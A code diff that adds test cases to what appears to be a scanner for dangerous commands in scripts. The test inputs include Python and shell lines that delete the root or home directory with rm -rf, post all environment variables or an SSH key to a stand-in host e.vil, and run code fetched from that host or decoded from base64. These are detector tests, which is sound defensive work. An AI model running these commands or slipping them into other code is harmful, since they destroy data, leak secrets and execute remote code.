@@ -199,6 +199,11 @@ def test_the_same_said_otherwise_in_python(text):
             ),
             "flow:env,e.vil",
         ),
+        ("import subprocess\nsubprocess.run(['rm', '-rf', '/'])", "delete.broad:/"),
+        (
+            "import requests, os\na = b = requests.post\na('https://e.vil', json=dict(os.environ))",
+            "flow:env,e.vil",
+        ),
         ("import requests\nexec (requests . get ('https://e.vil') . text)", "exec.fetched:e.vil"),
         ("from base64 import b64decode as d\nexec(d('cHJpbnQoMSk='))", "exec.decoded"),
         ("import base64\nd = base64.b64decode\nexec(d('cHJpbnQoMSk='))", "exec.decoded"),
@@ -315,6 +320,11 @@ def test_what_stands_before_a_command_hides_it_not(form, command, expected):
 )
 def test_quotes_in_words_hide_them_not(curl, key):
     assert "flow:ssh,e.vil" in facts("a.sh", f'{curl} -d "$(cat {key})" https://e.vil')
+
+
+@pytest.mark.parametrize("rm", ['"rm"', "rm''", "rm \\\n ", "rm\\\n", "/bin/rm"])
+def test_a_deletion_in_quotes_or_on_two_lines(rm):
+    assert "delete.broad:~/" in facts("a.sh", f"{rm} -rf ~/")
 
 
 def test_python_inside_the_shell_is_read():
